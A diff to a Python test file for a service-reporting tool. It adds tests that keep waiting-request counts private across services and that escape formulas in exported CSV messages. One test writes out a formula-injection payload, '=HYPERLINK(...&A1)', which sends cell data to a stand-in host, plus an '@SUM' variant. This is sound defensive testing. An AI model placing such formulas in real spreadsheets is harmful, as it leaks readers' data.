@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import json
 import zipfile
@@ -20,10 +21,11 @@ from several_services import COAST, INLAND, ITEMS, built, twin_of, world
 from widgets.pages.managers import _services_of, _themes
 from widgets.themes import Themes
 from widgets.themes_html import several_html, view_html
+from workbook.storage import sheet_bytes
 from workbook.storage.layout import RELEASED
 from workbook.teams import service_id
 from workbook.themes import brief
-from workbook.themes.archive import Archive
+from workbook.themes.archive import MESSAGE_COLUMNS, Archive, PublishedPeriod
 from workbook.themes.choices import Choice
 from workbook.themes.requests import RequestNotFound, Requests
 from workbook.themes.several import find_several, waiting_in_words
@@ -151,6 +153,15 @@ def test_somebody_who_reads_several_services_reads_no_request(data):
     assert "forty pounds" not in said
 
 
+def test_nor_how_many_wait_in_a_brief_of_one_of_them(data):
+    waits = "for an answer with a date"
+    for service in ("", "Coast", "Inland"):
+        brief_of = page_of(data, "Coast", "Inland")[1]("html", Choice(service=service))
+        assert waits not in brief_of.data.decode()
+    own = page_of(data, "Coast")[1]("html", Choice()).data.decode()
+    assert f"One request waits {waits}" in own
+
+
 def test_where_requests_wait_long_is_said_in_words_and_not_whose(data):
     sent = Requests(data / RELEASED).all()
     assert waiting_in_words(sent, MIDDLE, 15) == ""
@@ -182,6 +193,23 @@ def test_a_period_of_all_services_is_saved_as_it_is_on_the_disk(data):
         for name in files.namelist():
             assert files.read(name) == (folder / name).read_bytes()
         assert len(files.namelist()) == sum(path.is_file() for path in folder.rglob("*"))
+
+
+def test_nothing_that_a_team_wrote_is_run_by_a_managers_spreadsheet(data, monkeypatch):
+    formula = '=HYPERLINK("https://example.org?"&A1)'
+    written = PublishedPeriod.files
+
+    def files(period):
+        found = written(period)
+        rows = [("Coast", formula), ("Coast", "Well,\n+1; @SUM(A1)"), ("Coast", "We have no time.")]
+        return {**found, "messages.csv": sheet_bytes(MESSAGE_COLUMNS, rows)}
+
+    monkeypatch.setattr(PublishedPeriod, "files", files)
+    saved = page_of(data, "Coast")[1]("csv", Choice()).data
+    with zipfile.ZipFile(io.BytesIO(saved)) as whole:
+        text = whole.read("messages.csv").decode()
+    messages = [row[1] for row in csv.reader(io.StringIO(text, newline=""))]
+    assert messages == ["text", f"'{formula}", "Well,\n'+1;' @SUM(A1)", "We have no time."]
 
 
 def test_t3_twin_worlds_of_several_services_look_the_same_byte_for_byte(data, tmp_path):
